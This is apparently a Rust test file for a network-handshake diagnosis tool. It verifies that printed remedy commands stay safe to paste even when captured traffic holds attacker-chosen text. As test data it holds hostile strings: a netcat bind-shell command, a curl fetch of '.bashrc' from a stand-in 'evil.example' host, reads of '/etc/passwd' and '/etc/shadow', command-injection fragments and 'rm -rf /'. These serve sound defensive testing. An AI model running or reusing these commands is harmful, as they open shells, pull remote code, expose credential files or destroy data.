//! Commands of a remedy are safe to paste, whatever the wire said: read as a shell reads them, they run the programs and options that the
//! source code wrote, and redirect nothing.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use handshark::diagnosis::rules;

use crate::support::report::Advice;
use crate::support::{analyse, analyse_bytes, capture_of, fixtures, labelled};

/// Programs that remedies run, and every option that they may be given: those that take a value, and those that take none.
const PROGRAMS: &[(&str, &str, &str)] = &[
    ("conntrack", "-d -p", "-L"),
    (
        "curl",
        "-o -w -m --proto --resolve -x --ciphers --cacert --cert --key --proxy-user --connect-timeout --curves",
        "-v -s -sS -g -k -- --ssl-reqd --http3-only --haproxy-protocol --proxy-anyauth",
    ),
    ("dig", "", "+short"),
    ("grep", "-A1 -A3", ""),
    ("printf", "", ""),
    ("sleep", "", ""),
    ("tee", "", ""),
    ("ip", "", ""),
    ("ip6tables", "-t -A -I -p --tcp-flags -j --icmpv6-type", "--clamp-mss-to-pmtu"),
    ("iptables", "-t -A -I -p --tcp-flags -j --icmp-type", "--clamp-mss-to-pmtu"),
    ("mtr", "-P -c", "-T -u -r"),
    ("nc", "-w", "-vz -vzu"),
    ("nft", "", ""),
    ("nmap", "--script -p", ""),
    ("nstat", "", "-az"),
    (
        "openssl",
        "-min_protocol -max_protocol -ciphersuites -sigalgs -verify_hostname -keylogfile -accept -cert2 -key2 -Verify -config -extensions -newkey -pkeyopt \
         -keyout -days -subj -md -keyfile -startdate -enddate -connect -servername -starttls -xmpphost -proxy -alpn -cipher -groups -CAfile -cert -cert_chain -key -psk -psk_identity -purpose -in -out -ext -mtu -port -maxfraglen -outform",
        "-fallback_scsv -ign_eof -no_ticket -no_etm -verify_return_error -servername_fatal -www -x509 -new -nodes -batch -notext -selfsign -showcerts -noservername -dtls -dtls1_2 -quic -tls1 -tls1_1 -tls1_2 -tls1_3 -msg -status -reconnect -legacy_server_connect -noout -text -dates -pubkey -pubin -sha256 \
         -subject -issuer -serial -enddate -lastupdate -nextupdate",
    ),
    ("ping", "-c -M -s", "-6"),
    ("ss", "", "-ltnp -lunp -tnp -tmnp -tn -ltn"),
    ("sysctl", "", "-w"),
    ("tcpdump", "-i -s -w -B", "-n -ni -e"),
    ("timedatectl", "", ""),
    ("timeout", "", ""),
    ("tracepath", "", "-n"),
    ("traceroute", "-p", "-n -T -U"),
];

/// The stages of a pipeline as a shell divides it, each without its redirections; `Err` where it holds another operator than a pipe, or
/// redirects anything but to or from `/dev/null`. Quotes are single ones only, as the builder makes them.
fn stages(line: &str) -> Result<Vec<Vec<String>>, String> {
    let mut quoted = false;
    let mut escaped = false;
    let mut plain = String::new();
    let mut all = vec![String::new()];
    for c in line.chars() {
        let stage = all.last_mut().unwrap();
        match c {
            _ if escaped => escaped = false,
            '\'' => quoted = !quoted,
            '\\' if !quoted => escaped = true,
            '|' if !quoted => {
                all.push(String::new());
                plain.push(c);
                continue;
            }
            '<' | '>' | '&' | ';' | '$' | '`' | '(' | ')' | '*' | '?' | '#' | '~' | '!' | '{' | '}' | '"' | '\n' if !quoted => {
                plain.push(c);
            }
            _ => {}
        }
        stage.push(c);
    }
    if quoted || escaped {
        return Err("a quote is not closed".to_owned());
    }
    let redirected = |text: &str| text.matches(" </dev/null").count() + text.matches(" 2>/dev/null").count();
    let expected: usize = all.iter().map(|stage| redirected(stage)).sum();
    if plain.chars().filter(|c| *c != '|').count() != expected || all.iter().any(|stage| stage.trim().is_empty()) {
        return Err(format!("operators `{plain}`"));
    }
    all.iter()
        .map(|stage| {
            let stage = stage.replace(" </dev/null", "").replace(" 2>/dev/null", "");
            shlex::split(&stage).ok_or_else(|| "no shell reads this".to_owned())
        })
        .collect()
}

/// What is wrong with a command, if anything.
pub(crate) fn fault(line: &str) -> Option<String> {
    let stages = match stages(line) {
        Ok(stages) => stages,
        Err(fault) => return Some(fault),
    };
    for stage in &stages {
        // A program that may wait for ever is given a time.
        let stage = match &stage[..] {
            [timeout, seconds, rest @ ..] if timeout == "timeout" && seconds.parse::<u32>().is_ok() => rest,
            all => all,
        };
        let Some((_, values, flags)) = PROGRAMS.iter().find(|(program, ..)| Some(*program) == stage.first().map(String::as_str)) else {
            return Some(format!("program {:?}", stage.first()));
        };
        let mut given = BTreeSet::new();
        if let Some(twice) = stage.iter().filter(|word| word.len() > 2 && word.starts_with('-')).find(|word| !given.insert(*word)) {
            return Some(format!("{twice} is given twice"));
        }
        let mut words = stage.iter().skip(1);
        while let Some(word) = words.next() {
            if values.split(' ').any(|option| option == word) {
                let value = words.next().map_or("-", String::as_str);
                if value.starts_with('-') {
                    return Some(format!("{word} has the value {value}"));
                }
            } else if word.starts_with('-') && !flags.split_whitespace().any(|option| option == word) {
                return Some(format!("foreign option {word}"));
            }
        }
        for url in stage.iter().filter(|word| stage[0] == "curl" && word.contains("://")) {
            let (scheme, rest) = url.split_once("://").unwrap();
            let host = rest.split(['/', '?', '#']).next().unwrap();
            let fits = host.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-._:[]<>".contains(&byte)) && !host.starts_with('-');
            let known =
                ["http", "https", "smtp", "smtps", "imap", "imaps", "pop3", "pop3s", "ftp", "ftps", "ldap", "ldaps", "socks4a", "socks5h"];
            if !fits || !known.contains(&scheme) {
                return Some(format!("URL {url}"));
            }
        }
        if let Some(file) = stage.iter().position(|word| word == "-o").and_then(|at| stage.get(at + 1))
            && file.chars().any(|c| !(c.is_ascii_alphanumeric() || "-_./".contains(c)))
        {
            return Some(format!("file {file}"));
        }
    }
    None
}

/// All commands among lines of advice, and the complaint about each that is none or a wrong one.
fn commands(remedy: &[Advice], wrong: &mut Vec<String>, found: &mut BTreeSet<String>) {
    for advice in remedy {
        match advice {
            Advice::Command(line) => {
                if let Some(fault) = fault(line) {
                    wrong.push(format!("{fault}: {line}"));
                }
                found.insert(line.clone());
            }
            Advice::Text(line) => {
                let first = line.split_whitespace().next().unwrap_or_default();
                let command = line.starts_with('$') || (PROGRAMS.iter().any(|(program, ..)| *program == first) && line.contains(" -"));
                if command {
                    wrong.push(format!("a sentence that is a command: {line}"));
                }
            }
        }
    }
}

/// Words that an attacker would choose, to be cut or filled to a length.
const HOSTILE: &[&str] = &[
    "-e/bin/sh;>pwned",
    "--config=/dev/shm/x",
    "'>pwned;$(>pwned)`>pwned`|>pwned&>pwned #",
    "file:///etc/shadow",
    "\n$ >pwned\n>pwned",
    "<x>pwned",
    "\\';>pwned;'\\",
    "http://-oProxyCommand=x/\u{1b}[2J",
];

/// A text of exactly so many bytes that begins with a hostile one.
fn hostile(len: usize, kind: usize) -> Vec<u8> {
    HOSTILE[kind % HOSTILE.len()].bytes().chain(std::iter::repeat(b'A')).take(len).collect()
}

/// Whether a byte may stand in what a peer chooses: a name, a URL, a banner, an identity.
fn of_a_name(byte: u8) -> bool {
    byte.is_ascii_graphic() || byte == b' '
}

/// The capture with its texts replaced by hostile ones of the same length: whatever is printable for at least `least` bytes in a row, behind
/// the word that makes a protocol of it (`CONNECT `, `220 `, `http://`).
pub(crate) fn poisoned(bytes: &[u8], least: usize, kind: usize) -> Vec<u8> {
    const KEPT: &[&[u8]] = &[b"CONNECT ", b"EHLO ", b"HTTP/1.1 ", b"SSH-2.0-", b"220 ", b"220-", b"* OK ", b"+OK "];
    let mut out = bytes.to_vec();
    let mut at = 24.min(bytes.len());
    while at < bytes.len() {
        let len = bytes[at..].iter().take_while(|byte| of_a_name(**byte)).count();
        if len < least {
            at += len.max(1);
            continue;
        }
        let run = &bytes[at..at + len];
        let kept = KEPT.iter().find(|start| run.starts_with(start)).map_or(0, |start| start.len());
        // Behind a request's target its protocol stays.
        let end = run.windows(9).position(|window| window == b" HTTP/1.1").unwrap_or(len);
        // A URL may keep its scheme: then its host and path are another's.
        let scheme = if kind.is_multiple_of(2) && run[kept..].starts_with(b"http://") { 7 } else { 0 };
        // As often as not the code of an answer stays.
        let from = (kept + scheme).min(end);
        out[at + from..at + end].copy_from_slice(&hostile(end - from, kind + at));
        at += len;
    }
    out
}

#[test]
fn commands_are_what_the_source_wrote_however_hostile_the_wire() {
    let dir = tempfile::tempdir().unwrap();
    let (mut wrong, mut found) = (Vec::new(), BTreeSet::new());
    let mut causes = BTreeSet::new();
    for (number, (sidecar, label)) in labelled().into_iter().enumerate() {
        let path = capture_of(&sidecar, &label);
        let mut all = vec![analyse(&[&path], 1)];
        let bytes = fs::read(&path).unwrap();
        if !path.extension().is_some_and(|ext| ext == "zst" || ext == "gz") {
            // One word is another in each capture, so that all of them meet names, addresses and banners of every family.
            all.push(analyse_bytes(poisoned(&bytes, 6, number)));
            let named = dir.path().join("-e $(>pwned)'`;\n$ x.pcap");
            fs::write(&named, poisoned(&bytes, 9, number + 3)).unwrap();
            all.push(analyse(&[&named], 1));
        }
        for said in all {
            for report in &said.handshakes {
                causes.extend(report.diagnosis.cause.clone());
                commands(&report.diagnosis.remedy, &mut wrong, &mut found);
            }
            for incident in &said.incidents {
                commands(&incident.remedy, &mut wrong, &mut found);
            }
        }
    }
    wrong.sort();
    wrong.dedup();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(causes.len() > 60 && found.len() > 200, "{} causes, {} commands: the captures show too little", causes.len(), found.len());
    paste(&found);
}

/// Pastes commands into a real shell whose PATH holds nothing but recorders: every program must get the words that the commands say.
fn paste(lines: &BTreeSet<String>) {
    let dir = tempfile::tempdir().unwrap();
    let (programs, work) = (dir.path().join("bin"), dir.path().join("work"));
    fs::create_dir(&programs).unwrap();
    fs::create_dir(&work).unwrap();
    for (program, ..) in PROGRAMS {
        let stub = programs.join(program);
        fs::write(&stub, format!("#!/bin/sh\nfor word in {program} \"$@\"; do printf '%s\\0' \"$word\" >>\"$LOG.{program}\"; done\n"))
            .unwrap();
        make_executable(&stub);
    }
    // Without a network where that may be had: nothing here may reach one, and then nothing can.
    let alone = Command::new("unshare").args(["--net", "true"]).stderr(Stdio::null()).status().is_ok_and(|status| status.success());
    let sample = |lines: Vec<&String>| lines.iter().copied().step_by(lines.len().div_ceil(50).max(1)).cloned().collect::<Vec<_>>();
    let quoted = sample(lines.iter().filter(|line| line.contains('\'')).collect());
    for line in &[sample(lines.iter().collect()), quoted].concat() {
        let log = dir.path().join("log");
        let mut shell = if alone {
            let mut command = Command::new("unshare");
            command.args(["--net", "/bin/sh"]);
            command
        } else {
            Command::new("/bin/sh")
        };
        shell.arg("-c").arg(line).current_dir(&work).env_clear().env("LOG", &log).stdin(Stdio::null());
        // unshare itself is looked up before the shell runs.
        let shell = shell.env("PATH", if alone { format!("{}:/usr/bin:/bin", programs.display()) } else { programs.display().to_string() });
        let status = shell.status().unwrap();
        assert!(status.success(), "{line}");
        for stage in stages(line).unwrap() {
            let record = dir.path().join(format!("log.{}", stage[0]));
            let said = fs::read(&record).unwrap_or_else(|error| panic!("{line}: {error}"));
            let said: Vec<String> = String::from_utf8_lossy(&said).split_terminator('\0').map(str::to_owned).collect();
            let twice = stages(line).unwrap().iter().filter(|other| other[0] == stage[0]).count() > 1;
            assert!(if twice { said.len() >= stage.len() } else { said == stage }, "{line}\n{said:?}\n{stage:?}");
        }
        for (program, ..) in PROGRAMS {
            let _ = fs::remove_file(dir.path().join(format!("log.{program}")));
        }
        assert_eq!(fs::read_dir(&work).unwrap().count(), 0, "{line} left a file behind");
    }
}

fn make_executable(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

fn printed(name: &str) -> Vec<String> {
    let said = analyse(&[fixtures().join("captures/hostile").join(name)], 1);
    let command = |advice: &Advice| match advice {
        Advice::Command(line) => Some(line.clone()),
        Advice::Text(_) => None,
    };
    said.handshakes.iter().flat_map(|report| report.diagnosis.remedy.iter().filter_map(command)).collect()
}

#[test]
fn a_proxys_client_writes_no_command() {
    for name in ["proxy-bindshell.pcap", "proxy-nc-c.pcap", "proxy-nc-c2.pcap", "proxy-nc-e.pcap"] {
        let said = printed(name);
        assert!(said.iter().any(|line| line == "nc -vz -w 5 '<host>' '<port>'"), "{name}: {said:?}");
        assert!(!said.iter().any(|line| line.contains("-e/bin") || line.contains("IFS") || line.contains("31337")), "{name}: {said:?}");
    }
}

#[test]
fn a_certificate_names_neither_file_nor_scheme_nor_option() {
    for name in ["aia-option.pcap", "aia-config.pcap", "aia-file.pcap", "aia-proto.pcap", "aia-ssrf.pcap"] {
        let said = printed(name);
        let from_it = |line: &String| ["shm", "shadow", "scp:", "169.254"].iter().any(|mark| line.contains(mark));
        assert!(!said.iter().any(from_it), "{name}: {said:?}");
    }
    for name in ["aia-bashrc.pcap", "aia-glob.pcap"] {
        for line in printed(name).iter().filter(|line| line.contains("evil.example")) {
            assert!(line.starts_with("curl -sS -g --proto '=http,https' -m 30 -o intermediate.der -- "), "{line}");
        }
    }
}

#[test]
fn advice_begins_with_nothing_that_its_sentence_denies() {
    for (sidecar, label) in labelled() {
        for report in analyse(&[capture_of(&sidecar, &label)], 1).handshakes {
            let said = &report.diagnosis;
            let first = said.remedy.first().map_or("", Advice::line);
            let denied = said.summary.contains("is valid until") && first.starts_with("Renew")
                || report.network.protocol == "quic" && said.remedy.iter().any(|line| line.line().contains("-tls1_2"));
            assert!(!denied, "{}: {} {first}", sidecar.display(), said.summary);
        }
    }
}

#[test]
fn the_checks_of_this_file_see_what_they_look_for() {
    for bad in [
        "nc -vz -w 5 -lp31337 -e/bin/sh",
        "curl -sO http://evil.example/.bashrc",
        "curl -v http://a/ >x",
        "openssl s_client -connect <name>:443",
        "openssl s_client -connect a:443 </dev/null; id",
        "openssl s_client -servername -verify",
        "curl -v file:///etc/passwd",
        "rm -rf /",
        "nc 'a",
        "nc $(id) 1",
        "openssl s_client -noservername -noservername",
        "curl -v -o '$(id)' http://a/",
    ] {
        assert!(fault(bad).is_some(), "{bad}");
    }
    assert_eq!(fault("openssl s_client -connect '<name>:443' </dev/null 2>/dev/null | openssl x509 -noout -dates"), None);
}

#[test]
fn commands_of_the_pages_redirect_nothing_where_names_stand_to_be_filled_in() {
    let mut wrong = Vec::new();
    for rule in rules::all() {
        let mut fenced = false;
        let lines = [rule.page.check, rule.page.fix].into_iter().flat_map(str::lines);
        let commands = lines.filter(|line| {
            let fence = line.starts_with("```");
            fenced ^= fence;
            fenced && !fence
        });
        for shown in commands {
            let mut quote = None;
            let mut operators = Vec::new();
            for (at, c) in shown.char_indices() {
                match (quote, c) {
                    (Some(open), _) if c == open => quote = None,
                    (None, '\'' | '"') => quote = Some(c),
                    (None, '<' | '>') => operators.push(shown[at + 1..].trim_start_matches(['>', '&']).trim_start()),
                    _ => {}
                }
            }
            let known = |target: &&str| ["/dev/null", "1", "2", "fullchain.pem"].iter().any(|fine| target.starts_with(fine));
            if quote.is_some() || !operators.iter().all(known) {
                wrong.push(format!("{}: {shown}", rule.cause));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
